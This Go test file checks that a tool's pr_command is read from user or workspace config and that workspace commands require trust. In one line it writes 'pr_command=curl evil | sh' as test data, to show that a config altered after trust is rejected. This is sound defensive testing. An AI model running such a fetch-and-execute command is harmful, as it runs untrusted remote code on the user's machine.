package scheduler

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/loopd/loopd/internal/api"
	"github.com/loopd/loopd/internal/landing"
	"github.com/loopd/loopd/internal/storage"
)

// pr_command is read when the push is made, from the user's config or the
// workspace's .loop/config; the workspace's must be trusted in its present
// content, the user's needs no trust.
func TestPRCommandIsReadAtPushTimeAndTrustGated(t *testing.T) {
	fx := newFakeExec(t, func(api.Phase, int) fakeStep { return fakeStep{} })
	h := newHarness(t, fx)
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", "")
	ws := t.TempDir()
	run := storage.Run{ID: "r1", Workspace: ws}
	ctx := context.Background()
	write := func(path, content string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	pr, err := h.s.PRCommand(ctx, run)
	if err != nil || pr.Command != "" {
		t.Fatalf("no config: %+v %v", pr, err)
	}
	user := filepath.Join(home, ".config", "loop", "config")
	write(user, "pr_command=echo from-user\n")
	pr, err = h.s.PRCommand(ctx, run)
	if err != nil || pr.Command != "echo from-user" || pr.Source != user {
		t.Fatalf("the user's config: %+v %v", pr, err)
	}
	// A workspace config that sets other things, untrusted, does not
	// stop the user's own pr_command.
	cfg := filepath.Join(ws, ".loop", "config")
	write(cfg, "verify_command=make test\n")
	if pr, err = h.s.PRCommand(ctx, run); err != nil || pr.Command != "echo from-user" {
		t.Fatalf("an untrusted config without pr_command: %+v %v", pr, err)
	}
	write(cfg, "pr_command=echo from-repo\n")
	_, err = h.s.PRCommand(ctx, run)
	if _, ok := errors.AsType[*landing.UntrustedCommandError](err); !ok || !strings.Contains(err.Error(), cfg) {
		t.Fatalf("an untrusted workspace pr_command: %v", err)
	}
	if _, err := h.s.Trust(ctx, ws); err != nil {
		t.Fatal(err)
	}
	if pr, err = h.s.PRCommand(ctx, run); err != nil || pr.Command != "echo from-repo" || pr.Source != cfg {
		t.Fatalf("trusted: %+v %v", pr, err)
	}
	write(cfg, "pr_command=curl evil | sh\n")
	if _, err = h.s.PRCommand(ctx, run); !errors.As(err, new(*landing.UntrustedCommandError)) {
		t.Fatalf("changed since trusted: %v", err)
	}
	write(cfg, "pr_comand=typo\n")
	if _, err = h.s.PRCommand(ctx, run); err == nil || !strings.Contains(err.Error(), "pr_comand") {
		t.Fatalf("a bad config: %v", err)
	}
}
